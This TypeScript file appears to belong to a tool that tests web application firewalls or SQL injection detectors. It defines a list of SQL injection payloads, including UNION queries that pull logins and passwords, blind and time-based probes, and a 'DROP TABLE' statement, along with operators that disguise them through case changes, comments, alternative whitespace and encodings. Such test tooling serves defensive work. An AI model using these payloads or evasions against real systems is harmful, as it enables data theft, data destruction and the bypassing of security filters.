import { commonEncodings, hexEscape, plusBlank } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  "zed' OR 'k'='k",
  '7 OR 41=41',
  "' OR 53=53 -- ",
  "nobody' UNION SELECT login, pass FROM accounts -- ",
  '-8 UNION ALL SELECT NULL, version(), NULL -- ',
  '12 AND 9=9',
  '4 AND (SELECT COUNT(*) FROM invoices)>0',
  "x' AND SUBSTRING(password,1,1)='m' -- ",
  '5; DROP TABLE invoices -- ',
  "3' AND SLEEP(7) -- ",
  "2; WAITFOR DELAY '0:0:9' -- ",
  "9' AND 1=(SELECT 1 FROM pg_sleep(8)) -- ",
  '17 ORDER BY 14 -- ',
  "a' AND EXTRACTVALUE(1,CONCAT(0x7e,version())) -- ",
  "6' UNION SELECT table_name FROM information_schema.tables -- ",
  "b') OR ('q'='q",
  "1' AND ASCII(SUBSTR((SELECT pass FROM accounts LIMIT 1),1,1))>77 -- ",
  "root' -- ",
];

const keywords =
  /\b(?:UNION|ALL|SELECT|FROM|OR|AND|ORDER|BY|DROP|TABLE|WAITFOR|DELAY|SLEEP|COUNT|SUBSTRING|SUBSTR|ASCII|LIMIT|EXTRACTVALUE|CONCAT|NULL|version|information_schema)\b/g;

/** Rewrites what stands before the comment that ends a payload; the blank behind `--` is a comment's own. */
function body(payload: string, rewrite: (text: string) => string): string {
  const comment = payload.lastIndexOf('--');
  return comment < 0 ? rewrite(payload) : rewrite(payload.slice(0, comment)) + payload.slice(comment);
}

/** Each letter of a keyword in either case. */
const keywordCase: Operator = syntax('keyword-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.replaceAll(keywords, (word) =>
    [...word].map((letter) => (random.below(2) === 0 ? letter.toLowerCase() : letter.toUpperCase())).join(''),
  ),
);

/** An empty comment where a blank stood. */
const commentBlank: Operator = syntax('comment-blank', 'CAPEC-66 comments as white space', (payload) =>
  body(payload, (text) => text.replaceAll(/(?<!--) /g, '/**/')),
);

/** A comment with a word in it where a blank stood. */
const wordyComment: Operator = syntax('comment-word', 'CAPEC-66 comments as white space', (payload, random) =>
  body(payload, (text) => text.replaceAll(/(?<!--) /g, () => `/*${random.word(5)}*/`)),
);

/** MySQL runs what stands in a comment with a version. */
const versionComment: Operator = syntax('version-comment', 'CAPEC-66 executable comments', (payload) =>
  payload.replaceAll(/\b(?:UNION|SELECT|FROM|OR|AND)\b/g, (word) => `/*!50000${word}*/`),
);

/** Tabs, line ends and the blanks that MySQL takes beside them. */
const otherBlank: Operator = syntax('other-blank', 'CAPEC-66 alternative white space', (payload, random) =>
  body(payload, (text) =>
    text.replaceAll(/(?<!--) /g, () => random.pick(['\t', '\n', '\r\n', '\x0b', '\x0c', '\xa0'])),
  ),
);

/** A comment to the end of the line where a blank stood. */
const lineComment: Operator = syntax('line-comment', 'CAPEC-66 comments as white space', (payload, random) =>
  body(payload, (text) => text.replaceAll(/(?<!--) /g, () => `-- ${random.word(3)}\n`)),
);

/** Numbers in another notation. */
const numberNotation: Operator = syntax('number-notation', 'CAPEC-66 numeric notations', (payload, random) =>
  payload.replaceAll(/(?<=[\s(])(\d+)=(\d+)(?=$|\s)/g, (_all, left: string, right: string) => {
    const write = (digits: string) =>
      random.pick([`0x${Number(digits).toString(16)}`, `${digits}.0`, `(${digits})`, `${digits}e0`, `+${digits}`]);
    return `${write(left)}=${write(right)}`;
  }),
);

/** Another comparison in the place of `=`. */
const otherComparison: Operator = syntax('other-comparison', 'CAPEC-66 equivalent operators', (payload, random) =>
  payload.replaceAll(/(?<=\d|')=(?=\d|')/g, () => random.pick([' LIKE ', '<=>', ' RLIKE ', ' >= '])),
);

/** `||` and `&&` for the words, as MySQL reads them. */
const symbolLogic: Operator = syntax('symbol-logic', 'CAPEC-66 equivalent operators', (payload) =>
  payload.replaceAll(/\bOR\b/g, '||').replaceAll(/\bAND\b/g, '&&'),
);

/** A comment of another kind at the end. */
const otherEnd: Operator = syntax('other-end', 'CAPEC-66 comment endings', (payload, random) =>
  payload.endsWith('-- ')
    ? payload.slice(0, -3) + random.pick(['#', '--+', `-- ${random.word(6)}`, ';-- -', '/*'])
    : null,
);

/** Text in front of a quote belongs to the literal that the quote closes. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-66 padding', (payload, random) =>
  /^\w*'/.test(payload) ? random.word(9) + payload : null,
);

/** A word behind the comment is read by nobody, as tools mark their probes; a sentence there is a known miss. */
const junkSuffix: Operator = syntax('junk-suffix', 'CAPEC-66 padding', (payload, random) =>
  payload.endsWith('-- ') ? `${payload}${random.word(6)}` : null,
);

/** Literals as an expression that makes them. */
const literalExpression: Operator = syntax('literal-expression', 'CAPEC-66 string concatenation', (payload, random) =>
  payload.replaceAll(/(?<==)'([a-z])'(?= )/g, (_all, letter: string) =>
    random.pick([`CHAR(${letter.charCodeAt(0)})`, `0x${letter.charCodeAt(0).toString(16)}`, `CONCAT('${letter}','')`]),
  ),
);

/** Brackets around a selection need no blank beside them. */
const brackets: Operator = syntax('brackets', 'CAPEC-66 brackets for white space', (payload) =>
  payload.replaceAll(/SELECT (\w+) FROM (\w+)(?= (?:LIMIT|--)|\))/g, 'SELECT($1)FROM($2)'),
);

/** SQL injection: quotes that leave a literal, conditions, unions, stacked statements, delays. */
export const sqli: EvasionClass = {
  id: 'sqli',
  payloads,
  operators: [
    keywordCase,
    commentBlank,
    wordyComment,
    versionComment,
    otherBlank,
    lineComment,
    numberNotation,
    otherComparison,
    symbolLogic,
    otherEnd,
    junkPrefix,
    junkSuffix,
    literalExpression,
    brackets,
    ...commonEncodings,
    hexEscape,
    plusBlank,
  ],
};
